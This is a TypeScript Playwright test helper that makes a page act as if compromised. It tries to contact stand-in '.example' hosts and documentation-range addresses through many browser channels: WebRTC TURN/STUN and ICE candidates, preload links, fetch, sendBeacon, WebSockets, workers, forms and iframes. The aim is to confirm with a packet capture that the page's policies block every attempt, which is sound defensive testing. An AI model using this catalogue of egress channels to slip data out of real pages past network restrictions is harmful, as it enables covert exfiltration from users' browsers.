// What a compromised page tries in order to contact somebody: many interfaces of the engine that take a name or an
// address. The attack runs in the real page, under the page's policies, and a capture of packets shows the result.
// Addresses other than loopback are from documentation ranges (RFC 5737, RFC 3849).
import type { Page } from '@playwright/test';

/**
 * The targets of one page's attack: `name` is part of every host name, and IPv4 addresses other than loopback begin
 * with `net` (`198.51.100`).
 */
export interface Targets {
  readonly name: string;
  readonly net: string;
  /** A port of this machine on which the test listens. */
  readonly port: number;
}

/** Tries everything in `page`. Resolves `waitMs` after the last attempt began, whether or not attempts were refused. */
export async function attackFrom(page: Page, targets: Targets, waitMs = 4000): Promise<void> {
  await page.evaluate(
    async ({ name, net, port, forMs }) => {
      const quiet = (work: () => unknown): void => {
        try {
          void Promise.resolve(work()).catch(() => undefined);
        } catch {
          // refused at once
        }
      };
      const host = (way: string): string => `${name}-${way}.example`;
      const ice = async (urls: string): Promise<void> => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'p' }] });
        peer.createDataChannel('x');
        await peer.setLocalDescription();
      };
      const servers = [
        `turn:${net}.1:443?transport=tcp`,
        `turn:${net}.2:3478?transport=udp`,
        `turns:${net}.3:443?transport=tcp`,
        `stun:${net}.4:3478`,
        'turn:[2001:db8:5::1]:443?transport=tcp',
        `turn:${host('tcp')}:443?transport=tcp`,
        `turn:${host('udp')}:3478?transport=udp`,
        `turns:${host('tls')}:443?transport=tcp`,
        `stun:${host('stun')}`,
        `turn:127.0.0.1:${port}?transport=tcp`,
      ];
      for (const urls of servers) quiet(() => ice(urls));
      // The description and candidates of a peer: the test checks where the packets go.
      quiet(async () => {
        const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
        one.createDataChannel('x');
        await one.setLocalDescription();
        await other.setRemoteDescription(one.localDescription ?? { type: 'offer' });
        await other.setLocalDescription();
        const found = [
          `candidate:1 1 udp 2122260223 ${net}.20 5000 typ host`,
          `candidate:2 1 tcp 1518280447 ${net}.21 5001 typ host tcptype passive`,
          `candidate:3 1 udp 2122260223 ${host('candidate')} 5000 typ host`,
        ];
        for (const candidate of found) quiet(() => other.addIceCandidate({ candidate, sdpMid: '0' }));
      });
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon']) {
        for (const href of [`https://${host(rel)}/x`, `https://${net}.5/x`]) {
          const link = document.createElement('link');
          link.rel = rel;
          link.href = href;
          if (rel === 'preload') link.as = 'image';
          document.head.append(link);
        }
      }
      for (const at of [host('fetched'), `${net}.6`, `127.0.0.1:${port}`]) {
        quiet(() => new WebSocket(`ws://${at}/`));
        quiet(() => new WebTransport(`https://${at}/`));
        quiet(() => new EventSource(`http://${at}/`));
        quiet(() => fetch(`http://${at}/`, { mode: 'no-cors' }));
        quiet(() => navigator.sendBeacon(`http://${at}/`, 'x'));
        quiet(() => (new Image().src = `http://${at}/`));
        quiet(() => (document.createElement('video').src = `http://${at}/`));
        quiet(() => new FontFace('x', `url(http://${at}/)`).load());
        quiet(() => new Worker(`http://${at}/x.js`, { type: 'module' }));
        quiet(() => new SharedWorker(`http://${at}/x.js`, { type: 'module' }));
        quiet(() => {
          const request = new XMLHttpRequest();
          request.open('POST', `http://${at}/`);
          request.send('x');
        });
        quiet(() => open(`http://${at}/`));
        quiet(() => import(`http://${at}/x.js`));
        quiet(() => {
          const frame = document.createElement('iframe');
          frame.src = `http://${at}/`;
          document.body.append(frame);
        });
        const within = document.createElement('iframe');
        within.name = `within ${at}`;
        document.body.append(within);
        for (const target of ['_blank', within.name]) {
          quiet(() => {
            const form = document.createElement('form');
            Object.assign(form, { action: `http://${at}/`, method: 'post', target });
            document.body.append(form);
            form.submit();
          });
        }
      }
      // A document that inherits our policies, with constructors that nobody has replaced.
      quiet(async () => {
        const frame = document.createElement('iframe');
        document.body.append(frame);
        const Peer =
          (frame.contentWindow as unknown as typeof globalThis | null)?.RTCPeerConnection ?? RTCPeerConnection;
        const peer = new Peer({
          iceServers: [{ urls: `turn:${net}.7:443?transport=tcp`, username: 'u', credential: 'p' }],
        });
        peer.createDataChannel('x');
        await peer.setLocalDescription();
      });
      await new Promise((resolve) => setTimeout(resolve, forMs)); // nothing reports that a packet was not sent
    },
    { ...targets, forMs: waitMs },
  );
}
